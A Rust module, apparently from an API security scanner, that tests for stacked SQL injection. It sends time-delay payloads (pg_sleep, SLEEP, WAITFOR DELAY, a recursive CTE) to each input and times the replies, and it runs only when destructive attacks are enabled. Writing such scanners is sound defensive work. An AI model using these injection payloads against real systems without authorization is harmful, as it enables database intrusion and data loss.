//! A second statement behind the first.
//!
//! Some drivers run several statements of one text. Then an attacker need not read through a condition: any statement
//! runs. What is sent only waits; since it ends the API's own statement early, it is sent only where data may be lost.

use super::mend::{MEND_AT_GATE, MEND_IN_CODE};
use crate::attack::{Attack, Hole, Tried};
use crate::attacks::aim::{self, Aim, Takes};
use crate::attacks::delay::{self, Outcome};
use crate::door::{GuideDoor, ShutBy};
use crate::prober::{Prober, Stop};
use report::Level;

pub(super) const ATTACK: Attack = Attack {
    name: "sql-stacked",
    door: GuideDoor::SqlInjection,
    shut_by: ShutBy::Code,
    thought: "Does the database run a second statement that I add to a value?",
    level: Level::Critical,
    references: &["CWE-89", "API8:2023"],
    mend_in_code: MEND_IN_CODE,
    mend_at_gate: MEND_AT_GATE,
    run: |p, tried| Box::pin(run(p, tried)),
};

/// PostgreSQL, MySQL, SQL Server. SQLite's drivers run one statement of a text, or all without an answer.
const STATEMENTS: [&str; 4] = [
    "; SELECT pg_sleep(SECONDS) -- -",
    "; SELECT SLEEP(SECONDS) -- -",
    "; WAITFOR DELAY '0:0:SECONDS' -- -",
    "; WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT SECONDS000000) SELECT count(*) FROM c -- -",
];

async fn run<'a>(p: &'a Prober<'a>, tried: &mut Tried) -> Result<(), Stop> {
    if !p.options.destructive {
        tried.not_tried("it ends statements early, and data may be lost: allow destructive attacks");
        return Ok(());
    }
    aim::each(p, tried, |_, _| true, |p, aim, tried| Box::pin(try_slot(p, aim, tried))).await
}

async fn try_slot(p: &Prober<'_>, aim: &Aim, tried: &mut Tried) -> Result<(), Stop> {
    let usual = delay::usual(p, aim).await?;
    if usual.is_restless() {
        tried.unknown(format!("{}: ordinary answers take short and long by themselves", aim.operation));
        return Ok(());
    }
    let ends: &[&str] = match aim.takes {
        Takes::Text => &["'"],
        Takes::Number => &[""],
        _ => &["'", ""],
    };
    for end in ends {
        for statement in STATEMENTS {
            let draft = |units: u32| {
                aim.behind(&format!("{end}{}", statement.replace("SECONDS", &units.to_string())))
            };
            match delay::ask(p, aim, usual, &draft).await? {
                Outcome::Waits(reply, times) => {
                    let message = format!("a second statement runs and waits: {times} for 0, 1 and 2 units");
                    tried.open(Hole::shown(&aim.operation, &aim.slot, message, &aim.baseline.reply, &reply));
                    return Ok(());
                }
                Outcome::Prompt(reply) => tried.shut(&reply.seen),
                Outcome::Restless => {
                    tried.unknown(format!("{}, {}: times differ by themselves", aim.operation, aim.slot));
                }
            }
        }
    }
    Ok(())
}
